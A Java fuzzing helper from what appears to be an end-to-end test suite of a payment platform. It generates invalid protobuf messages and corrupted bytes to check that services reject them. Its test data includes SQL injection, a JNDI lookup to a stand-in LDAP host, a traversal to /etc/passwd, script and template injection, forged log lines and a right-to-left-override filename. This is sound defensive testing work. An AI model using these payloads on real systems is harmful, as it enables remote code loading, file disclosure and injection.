package io.tongbao.e2e.mesh;

import com.google.protobuf.ByteString;
import com.google.protobuf.CodedOutputStream;
import com.google.protobuf.Descriptors.Descriptor;
import com.google.protobuf.Descriptors.FieldDescriptor;
import com.google.protobuf.DynamicMessage;
import com.google.protobuf.Message;
import com.google.protobuf.UnknownFieldSet;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.Set;

/**
 * Makes messages that must be refused. The catalogue goes by kinds of fields, not by their names, so that it holds for
 * messages that nobody has written yet: every string refuses what is overlong or has control characters, every amount
 * what is negative or of no currency, every number what is below zero, every list what is empty or endless. The few
 * fields that promise less are named.
 */
final class Hostile {

    /** A line of its own in a log, if a log were written without care. */
    static final String LOG_LINE = "2026-01-01T00:00:00.000 ERROR forged";

    private static final String MONEY = "tongbao.common.v1.Money";
    private static final int ENDLESS = 1100;
    private static final int NEST = 5000;

    /** The platform sets or ignores them, whatever a caller says. */
    private static final Set<String> IGNORED = Set.of(
            "tongbao.trade.v1.Coupon.state", "tongbao.trade.v1.Promotion.taken", "tongbao.common.v1.Batch.deadline_ms");

    private static final Set<String> OPTIONAL = Set.of(
            "tongbao.account.v1.PostRequest.amount",
            "tongbao.account.v1.BatchTransfer.context",
            "tongbao.pay.v1.PaymentOrder.context",
            "tongbao.pay.v1.RepaymentOrder.context",
            "tongbao.pay.v1.AwaitFundingRequest.context",
            "tongbao.pay.v1.AwaitFundingRequest.own",
            "tongbao.channel.v1.ChargeOrder.context",
            "tongbao.channel.v1.RefundOrder.context",
            "tongbao.channel.v1.PayoutOrder.context",
            "tongbao.channel.v1.CheckDestinationRequest.context",
            "tongbao.pay.v1.FindRouteRequest.context",
            "tongbao.pay.v1.PaymentOrder.exit",
            "tongbao.trade.v1.PayRequest.from_balance",
            "tongbao.trade.v1.RefundRequest.amount",
            "tongbao.risk.v1.RiskItem.context");

    private static final List<String> NO_CURRENCY = List.of("", "cny", "CN", "CNYY", "XYZ", "XXX", "人民币", "C\nY", "€");

    /** What a person might write, or an attacker; not wrong by itself. */
    private static final List<String> ODD = List.of(
            "'OR'1'='1",
            "1;DROP/**/TABLE/**/x--",
            "${jndi:ldap://a.example/b}",
            "../../../etc/passwd",
            "%s%n%x%00",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "\"}]}",
            "🀄️茶",
            "ﷺ",
            "a\u0301\u0302\u0303",
            "null",
            "-1",
            "0");

    /** Stands for bytes that are no UTF-8; put in when the message is bytes. */
    private static final byte[] NO_UTF8_MARK = "nO-uTf8".getBytes(StandardCharsets.US_ASCII);

    private static final byte[] NO_UTF8 = {
        (byte) 0xED, (byte) 0xA0, (byte) 0x80, (byte) 0xC0, (byte) 0x80, (byte) 0xF8, (byte) 0xFF
    };

    private final Random random;
    private final List<String> known;
    private double spoiling;
    private int spoiled;

    /** @param known ids of things that exist */
    Hostile(Random random, List<String> known) {
        this.random = random;
        this.known = known;
    }

    /** Whether a message of this type can be wrong: one without fields cannot. */
    static boolean canBeWrong(Descriptor type) {
        return !type.getFields().isEmpty();
    }

    /** A message with at least one violation, that decodes unless the violation is text that is no UTF-8. */
    byte[] refused(Descriptor type) {
        spoiling = 0.15;
        spoiled = 0;
        var message = message(type);
        while (spoiled == 0 && canBeWrong(type)) {
            message = message(type);
        }
        return bytes(message);
    }

    /** Nothing is wrong with its form; what it says is odd. For RPCs that change nothing. */
    byte[] odd(Descriptor type) {
        spoiling = 0;
        return bytes(message(type));
    }

    /** Bytes that may be no message; what they say, if anything, is wrong in every field. */
    byte[] broken(Descriptor type) {
        spoiling = 1;
        var bytes = bytes(message(type));
        return switch (random.nextInt(7)) {
            case 0 -> Arrays.copyOf(bytes, random.nextInt(bytes.length + 1));
            case 1 -> flipped(bytes);
            case 2 -> drawn(random.nextInt(300));
            case 3 -> joined(bytes, new byte[] {8, -1, -1, -1, -1, -1, -1, -1, -1, -1, -1, -1, 1});
            case 4 -> joined(nested(), bytes);
            case 5 -> joined(unknown(), bytes);
            default -> canBeWrong(type) ? retyped(type, bytes) : joined(unknown(), bytes);
        };
    }

    private Message message(Descriptor type) {
        var message = DynamicMessage.newBuilder(type);
        for (var field : type.getFields()) {
            if (field.isRepeated()) {
                list(message, field);
            } else if (!isOfMessages(field)) {
                message.setField(field, scalar(field));
            } else if (OPTIONAL.contains(field.getFullName()) || !spoil(field, 4)) {
                message.setField(field, message(field.getMessageType()));
            }
        }
        return message.build();
    }

    private void list(DynamicMessage.Builder message, FieldDescriptor field) {
        var empty = isOfMessages(field) && spoiling < 1 && spoil(field, 2);
        if (empty) {
            return;
        }
        var endless = spoiling < 1 && spoil(field, 40);
        var item = item(field);
        for (int i = 0; i < (endless ? ENDLESS : 1); i++) {
            message.addRepeatedField(field, item);
        }
        if (!endless && random.nextBoolean()) {
            message.addRepeatedField(field, random.nextBoolean() ? item : item(field));
        }
    }

    private Object item(FieldDescriptor field) {
        return isOfMessages(field) ? message(field.getMessageType()) : scalar(field);
    }

    private static boolean isOfMessages(FieldDescriptor field) {
        return field.getJavaType() == FieldDescriptor.JavaType.MESSAGE;
    }

    private Object scalar(FieldDescriptor field) {
        var bad = field.getJavaType() != FieldDescriptor.JavaType.BOOLEAN && spoil(field, 1);
        return switch (field.getJavaType()) {
            case STRING ->
                field.getFullName().equals(MONEY + ".currency")
                        ? bad ? pick(NO_CURRENCY) : "CNY"
                        : bad ? badText() : text();
            case LONG -> bad ? badNumber(field) : 1L + random.nextInt(100_000);
            case INT -> bad ? -1 - random.nextInt(Integer.MAX_VALUE) : Integer.valueOf(1);
            case ENUM -> field.getEnumType().findValueByNumberCreatingIfUnknown(bad ? badEnum(field) : 1);
            case BOOLEAN -> random.nextBoolean();
            default -> throw new AssertionError("the catalogue knows nothing about " + field);
        };
    }

    private boolean spoil(FieldDescriptor field, int seldom) {
        var spoil = !IGNORED.contains(field.getFullName()) && random.nextDouble() < spoiling / seldom;
        spoiled += spoil ? 1 : 0;
        return spoil;
    }

    private String text() {
        return switch (random.nextInt(4)) {
            case 0 -> pick(known);
            case 1 -> pick(ODD);
            default -> "fuzz-" + Long.toHexString(random.nextLong());
        };
    }

    private String badText() {
        return switch (spoiling < 1 ? random.nextInt(10) : 1) {
            case 0 -> "x".repeat(random.nextInt(100) == 0 ? 200_000 : 201 + random.nextInt(2000));
            case 1 -> "\u0001\u0002\u0003\u0004".repeat(6);
            case 2 -> "a\0b";
            case 3 -> "a\r\n" + LOG_LINE + "\r\n";
            case 4 -> "\u001b[2J\u001b[31m" + pick(ODD);
            case 5 -> "invoice\u202Efdp.exe\u2066";
            case 6 -> "zoe" + pick(List.of(" ", "\u00A0", "\u3000"));
            case 7 -> "zo\u200B\u2060e\uFEFF";
            case 8 -> pick(ODD) + "\u007f".repeat(300);
            default -> new String(NO_UTF8_MARK, StandardCharsets.US_ASCII);
        };
    }

    private long badNumber(FieldDescriptor field) {
        var amount = field.getContainingType().getFullName().equals(MONEY);
        return switch (random.nextInt(amount ? 4 : 2)) {
            case 0 -> Long.MIN_VALUE;
            case 1 -> -1L - random.nextInt(1000);
            case 2 -> Long.MAX_VALUE;
            default -> 1_000_000_000_000_001L;
        };
    }

    /** Without a role, an operator's transfer is MANUAL. */
    private int badEnum(FieldDescriptor field) {
        var isRequired = !field.getFullName().equals("tongbao.account.v1.ReserveRequest.role");
        return isRequired && random.nextBoolean() ? 0 : random.nextBoolean() ? 99 : Integer.MIN_VALUE;
    }

    private byte[] bytes(Message message) {
        var bytes = message.toByteArray();
        for (int at = 0; at <= bytes.length - NO_UTF8_MARK.length; at++) {
            if (Arrays.equals(bytes, at, at + NO_UTF8_MARK.length, NO_UTF8_MARK, 0, NO_UTF8_MARK.length)) {
                System.arraycopy(NO_UTF8, 0, bytes, at, NO_UTF8.length);
            }
        }
        return bytes;
    }

    private byte[] flipped(byte[] bytes) {
        for (int i = 0; i <= random.nextInt(3) && bytes.length > 0; i++) {
            bytes[random.nextInt(bytes.length)] ^= (byte) (1 << random.nextInt(8));
        }
        return bytes;
    }

    private byte[] drawn(int length) {
        var bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    /** Groups in groups, deeper than any reader should follow. */
    private static byte[] nested() {
        var bytes = new byte[2 * NEST];
        Arrays.fill(bytes, 0, NEST, (byte) 0x7b);
        Arrays.fill(bytes, NEST, bytes.length, (byte) 0x7c);
        return bytes;
    }

    private byte[] unknown() {
        var field = UnknownFieldSet.Field.newBuilder()
                .addVarint(random.nextLong())
                .addFixed32(random.nextInt())
                .addLengthDelimited(ByteString.copyFrom(drawn(random.nextInt(100))))
                .build();
        return UnknownFieldSet.newBuilder()
                .addField(1000 + random.nextInt(1000), field)
                .build()
                .toByteArray();
    }

    /** A field of the message as another wire type, before the message. */
    private byte[] retyped(Descriptor type, byte[] bytes) {
        var out = new ByteArrayOutputStream();
        try {
            var coded = CodedOutputStream.newInstance(out);
            var number = type.getFields()
                    .get(random.nextInt(type.getFields().size()))
                    .getNumber();
            switch (random.nextInt(3)) {
                case 0 -> coded.writeFixed64(number, random.nextLong());
                case 1 -> coded.writeFixed32(number, random.nextInt());
                default -> coded.writeUInt32(number, random.nextInt());
            }
            coded.flush();
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return joined(out.toByteArray(), bytes);
    }

    private static byte[] joined(byte[] first, byte[] second) {
        var bytes = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, bytes, first.length, second.length);
        return bytes;
    }

    private <T> T pick(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }
}
